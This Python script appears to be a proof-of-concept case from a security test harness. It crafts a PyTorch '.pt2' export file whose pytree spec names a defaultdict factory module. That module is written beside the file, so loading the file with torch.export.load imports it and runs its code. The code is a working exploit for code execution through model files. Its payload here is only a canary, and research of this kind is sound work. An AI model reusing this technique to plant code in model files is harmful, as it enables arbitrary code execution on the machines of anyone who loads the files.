"""A `.pt2` whose pytree names a module, which torch imports: here one that lies beside the file."""

import json
import sys
from pathlib import Path

import torch
from craft import edit_model, main, source

EXIT, FINDS = 5, "import"


def make(path: Path, canary: Path) -> None:
    (path.parent / "edgegen_attack_module.py").write_text(source(canary) + "\nfactory = list\n")
    context = {"default_factory_module": "edgegen_attack_module", "default_factory_name": "factory", "dict_context": []}

    def plant(document: dict) -> None:
        signature = document["graph_module"]["module_call_graph"][0]["signature"]
        protocol, spec = json.loads(signature["in_spec"])
        spec["children_spec"].append({"type": "collections.defaultdict", "context": context, "children_spec": []})
        signature["in_spec"] = json.dumps([protocol, spec])

    edit_model(path, plant)


def naive(path: Path, canary: Path) -> None:
    sys.path.insert(0, str(path.parent))
    try:
        torch.export.load(path)
    finally:
        sys.path.remove(str(path.parent))


if __name__ == "__main__":
    main(make)
